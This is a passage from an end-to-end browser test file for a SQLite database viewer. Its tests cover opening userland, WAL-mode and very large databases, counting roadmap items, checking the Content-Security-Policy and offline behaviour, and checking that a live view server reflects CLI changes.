  ok(lines[5].endsWith('plain,-5'), `plain text and numbers untouched: ${lines[5]}`);
});

await test('a userland.db is recognised and its preferences, skills, rules and patterns are shown', async () => {
  const ul = path.join(tmp, 'userland.db');
  python(`
import sqlite3, sys, re
sql = open(sys.argv[1]).read()
c = sqlite3.connect(sys.argv[2])
c.executescript(sql.split('-- DOWN')[0])
c.execute("INSERT INTO preferences (key, value, source) VALUES ('editor', 'vim', 'cli')")
c.commit()
`, path.join(repo, 'migrations', 'userland', '001_userland_tables.sql'), ul);
  await openFile(ul);
  ok(/userland\.db/.test(await text('#db-notice')), `recognised: ${await text('#db-notice')}`);
  await goto('#/tables', 'tables');
  for (const t of ['preferences', 'skills', 'ground_rules', 'learned_patterns', 'detected_patterns']) {
    eq(await page.locator(`a[data-object="${t}"]`).count(), 1, `${t} listed`);
  }
  await goto('#/table/preferences', 'tables');
  await page.waitForSelector('tr.data-row');
  ok((await page.locator('tr.data-row').first().innerText()).includes('vim'), 'a preference shown');
});

await test('the Content-Security-Policy allows no inline script, and the page runs none', async () => {
  const csp = await page.getAttribute('meta[http-equiv="Content-Security-Policy"]', 'content');
  const script = /script-src ([^;]*)/.exec(csp)[1];
  ok(!script.includes("'unsafe-inline'") && !script.includes("'unsafe-eval'"), `script-src: ${script}`);
  ok(/connect-src 'self'/.test(csp), 'connections only to the own origin');
  eq(await page.evaluate(() => document.querySelectorAll('script:not([src])').length), 0, 'no inline <script>');
});

await test('a WAL-mode file opens without its -wal (with a notice) and with it (changes applied)', async () => {
  const dir = path.join(tmp, 'wal');
  fs.mkdirSync(dir);
  python(`
import sqlite3, sys, shutil, os
src = sqlite3.connect('file:' + sys.argv[1] + '?mode=ro&immutable=1', uri=True)
live = os.path.join(sys.argv[2], 'live.db')
dst = sqlite3.connect(live)
src.backup(dst)
dst.execute("PRAGMA journal_mode=WAL")
dst.execute("PRAGMA wal_autocheckpoint=0")
dst.execute("PRAGMA wal_checkpoint(TRUNCATE)")
for i in range(25):
    dst.execute("INSERT INTO roadmap_items (id, phase_key, title, status_key) VALUES (?, 'phase_x', ?, 'pending')", ('WAL-%02d' % i, 'only in the wal %d' % i))
    dst.commit()
# Copy while the writer is still open, so the changes are only in the -wal.
shutil.copyfile(live, os.path.join(sys.argv[2], 'copy.db'))
shutil.copyfile(live + '-wal', os.path.join(sys.argv[2], 'copy.db-wal'))
dst.close()
`, populated, dir);
  const copy = path.join(dir, 'copy.db');
  await openFile(copy);
  await goto('#/overview', 'overview');
  ok(/WAL mode/.test(await text('#db-notice')), `notice about the -wal: ${await text('#db-notice')}`);
  eq(Number((await text('[data-count="roadmap_items"] .n')).trim()), pop.items, 'without the -wal: the main file as it is');
  await page.setInputFiles('#dbfile', [copy, copy + '-wal']);
  await page.waitForFunction(() => /Applied/.test(document.querySelector('#db-notice')?.textContent || ''), null, { timeout: 30000 });
  await waitLoaded('overview');
  eq(Number((await text('[data-count="roadmap_items"] .n')).trim()), pop.items + 25, 'with the -wal: every committed change');
  await shot('19-wal-applied');
});

await test('a 60k-item roadmap: counts estimated first then exact, ready/blocked as the roadmap rules say', async () => {
  const big = path.join(tmp, 'big-roadmap.db');
  makeDb(big, `
dst.execute("PRAGMA foreign_keys=OFF")
for t in ('enforce_phase_limit', 'roadmap_version_capture', 'roadmap_dep_no_cycles', 'roadmap_dep_audit_insert'):
    dst.execute('DROP TRIGGER IF EXISTS "%s"' % t)
dst.executemany("INSERT INTO roadmap_items (id, phase_key, title, status_key) VALUES (?,?,?,?)",
    ((('GEN-%06d' % i), 'phase_gen_%03d' % (i % 500), 'generated item %d' % i, ('completed', 'pending', 'in_progress', 'deferred')[i % 4]) for i in range(60000)))
dst.executemany("INSERT OR IGNORE INTO roadmap_dependencies (item_id, depends_on_id, dependency_type) VALUES (?,?,'blocks')",
    ((('GEN-%06d' % i), ('GEN-%06d' % (i - 1 - i % 7))) for i in range(1, 60000, 2)))
`);
  // What the roadmap's rules say, worked out per item by SQLite itself (the definitions of
  // core/src/roadmap/readiness.rs).
  const truth = JSON.parse(python(`
import sqlite3, sys, json
c = sqlite3.connect('file:' + sys.argv[1] + '?mode=ro', uri=True)
unmet = "EXISTS (SELECT 1 FROM roadmap_dependencies d JOIN roadmap_items p ON p.id = d.depends_on_id WHERE d.item_id = r.id AND d.dependency_type = 'blocks' AND p.status_key <> 'completed')"
held = "EXISTS (SELECT 1 FROM blockers b WHERE b.work_id = r.id AND b.resolved_at IS NULL)"
q = lambda sql: c.execute(sql).fetchone()[0]
print(json.dumps({
  'items': q("SELECT count(*) FROM roadmap_items WHERE deleted_at IS NULL"),
  'ready': q("SELECT count(*) FROM roadmap_items r WHERE status_key = 'pending' AND deleted_at IS NULL AND NOT %s AND NOT %s" % (unmet, held)),
  'blocked': q("SELECT count(*) FROM roadmap_items r WHERE deleted_at IS NULL AND status_key NOT IN ('completed', 'deferred') AND (%s OR %s)" % (unmet, held)),
}))
`, big).trim());
  await page.evaluate(() => { location.hash = '#/overview'; });
  await openFile(big);
  await waitLoaded('overview');
  await page.waitForSelector('#overview-counts[data-exact="true"]', { timeout: 60000 });
  eq(Number((await text('[data-count="roadmap_items"] .n')).trim()), truth.items, 'exact item count replaces the estimate');
  await page.waitForSelector('#ready-count', { timeout: 60000 });
  eq(Number((await text('#ready-count')).trim()), truth.ready, 'ready');
  eq(Number((await text('#blocked-count')).trim()), truth.blocked, 'blocked');
  eq(await page.locator('#blocked-panel .blocked-item').count(), 10, 'the first ten blocked items listed, with reasons');
  fs.rmSync(big);
});

const hugeMb = Number(process.env.MOTUS_HUGE_DB_MB || 2200);
await test(`a database over 2 GiB (${hugeMb} MB) opens in place and shows its overview`, async () => {
  const huge = path.join(tmp, 'huge.db');
  const t0 = Date.now();
  makeDb(huge, `
dst.execute("PRAGMA journal_mode=OFF")
dst.execute("PRAGMA synchronous=OFF")
dst.execute("CREATE TABLE padding (id INTEGER PRIMARY KEY, body BLOB)")
for i in range(int(sys.argv[3]) // 100):
    dst.execute("INSERT INTO padding (body) VALUES (zeroblob(100 * 1000 * 1000))")
# Rows written last live in pages past 2 GiB: the overview must read them.
for i in range(7):
    dst.execute("INSERT INTO roadmap_items (id, phase_key, title, status_key) VALUES (?, 'phase_x', ?, 'pending')", ('FAR-%d' % i, 'far item %d' % i))
`, String(hugeMb));
  figures.huge_db_generate_ms = Date.now() - t0;
  figures.huge_db_bytes = fs.statSync(huge).size;
  ok(figures.huge_db_bytes > 2 * 1024 ** 3, `over 2 GiB: ${figures.huge_db_bytes}`);
  await page.evaluate(() => { location.hash = '#/overview'; });
  const t1 = Date.now();
  await openFile(huge);
  await waitLoaded('overview');
  figures.huge_open_to_first_screen_ms = Date.now() - t1;
  eq(Number((await text('[data-count="roadmap_items"] .n')).trim()), pop.items + 7, 'items including those past 2 GiB');
  await page.waitForSelector('#ready-count');
  figures.huge_open_bytes_read = Number(await page.getAttribute('#open-timing', 'data-bytes-read'));
  await shot('20-huge-overview');
  fs.rmSync(huge);
});

await test('after load nothing leaves the browser: no other origin, no request with a body', async () => {
  const foreignReqs = afterLoad.filter((r) => !r.url.startsWith(origin + '/') && !r.url.startsWith('blob:') && !r.url.startsWith('data:'));
  const withBody = afterLoad.filter((r) => r.body || r.method !== 'GET');
  eq(foreignReqs.length, 0, `requests to another origin: ${JSON.stringify(foreignReqs.slice(0, 5))}`);
  eq(withBody.length, 0, `requests with a body: ${JSON.stringify(withBody.slice(0, 5))}`);
  const nonStatic = afterLoad.filter((r) => r.url.startsWith(origin) && !/\/(index\.html|worker\.js|boot\.js|motus-viewer\.js|motus-viewer_bg\.wasm|style\.css|live\/info)?(\?.*)?(#.*)?$/.test(new URL(r.url).pathname));
  eq(nonStatic.length, 0, `only the viewer's own files were fetched: ${JSON.stringify(nonStatic.slice(0, 5))}`);
  const errors = consoleErrors.filter((e) => !/Failed to load resource/.test(e));
  eq(errors.length, 0, `console errors: ${errors.join(' | ')}`);
});

if (motusBin) {
  await test('motus view shows its live database, and after a CLI write and a reload the new state', async () => {
    const liveDb = path.join(tmp, 'live-coordination.db');
    execFileSync(motusBin, ['--db', liveDb, 'db', 'init'], { stdio: 'pipe' });
    const child = spawn(motusBin, ['--db', liveDb, 'view', '--port', '0', '--dir', dist], { stdio: ['ignore', 'pipe', 'inherit'] });
    try {
      const liveOrigin = await new Promise((resolve, reject) => {
        const timer = setTimeout(() => reject(new Error('motus view did not print its address within 10 s')), 10000);
        child.stdout.on('data', (d) => {
          const m = /http:\/\/(127\.0\.0\.1:\d+)\//.exec(String(d));
          if (m) { clearTimeout(timer); resolve(`http://${m[1]}`); }
        });
      });
      const p2 = await context.newPage();
      const ranges = [];
      p2.on('request', (r) => { if (r.url().includes('/live/snapshot/')) ranges.push(r.headers().range || ''); });
      await p2.goto(`${liveOrigin}/index.html#/overview`);
      await p2.waitForSelector('#live-badge', { timeout: 30000 });
      await p2.waitForSelector('[data-page="overview"] .loaded', { timeout: 30000 });
      eq(await p2.locator('[data-page="open"]').count(), 0, 'no file picker needed');
      const leasesBefore = Number((await p2.textContent('#active-lease-count')).trim());
      ok(ranges.length > 0 && ranges.every((r) => /^bytes=\d+-\d+$/.test(r)), `read by range requests: ${ranges.slice(0, 3)}`);
      const run = (...a) => execFileSync(motusBin, ['--db', liveDb, '--json', ...a], { encoding: 'utf8', stdio: 'pipe' });
      run('work', 'claim', 'ADHOC-LIVE-001', '--intent', 'live view test');
      await p2.reload();
      await p2.waitForSelector('#live-badge', { timeout: 30000 });
      await p2.waitForSelector('[data-page="overview"] .loaded', { timeout: 30000 });
      eq(Number((await p2.textContent('#active-lease-count')).trim()), leasesBefore + 1, 'the new lease shows after a reload');
      await p2.screenshot({ path: path.join(artifacts, '21-live.png') });
      await p2.close();
    } finally {
      child.kill();
    }
  });
}


await context.close();
stopServer();
const pass = results.filter((r) => r[1]).length;
const fail = results.length - pass;
fs.writeFileSync(path.join(artifacts, 'figures.json'), JSON.stringify(figures, null, 2));
console.log(`figures: ${JSON.stringify(figures)}`);
fs.rmSync(tmp, { recursive: true, force: true });
fs.rmSync(userDataDir, { recursive: true, force: true });
console.log(`${pass} passed, ${fail} failed`);
process.exit(fail ? 1 : 0);
